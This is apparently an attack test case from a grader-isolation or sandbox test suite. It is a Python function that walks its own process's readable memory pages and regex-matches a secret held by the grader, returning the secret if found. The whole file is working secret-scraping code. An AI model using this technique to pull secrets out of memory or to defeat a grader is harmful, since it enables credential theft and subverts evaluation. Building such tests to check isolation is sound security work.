"""Scans its own memory for a secret that the grader holds."""

REACH = "one"

import ctypes
import os
import re

PATTERN = re.compile("".join(TARGETS["secret"]).encode() + rb"[0-9a-f]{32}")


def regions():
    try:
        with open("/proc/self/maps") as file:
            for row in file:
                ends, rights = row.split()[:2]
                if rights.startswith("r") and "[v" not in row:
                    low, high = (int(end, 16) for end in ends.split("-"))
                    yield low, min(high, low + (64 << 20))
    except OSError:
        for thing in (PATTERN, os, regions, [0] * 9999):
            yield (id(thing) >> 12 << 12) - (8 << 20), (id(thing) >> 12 << 12) + (8 << 20)


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None)
    out, into = os.pipe()
    for low, high in regions():
        for page in range(low, high, 4096):
            if libc.write(into, ctypes.c_void_p(page), ctypes.c_size_t(4096)) == 4096:
                found = PATTERN.search(os.read(out, 4096))
                if found:
                    return "took " + found[0].decode()
    return "no secret in this memory"
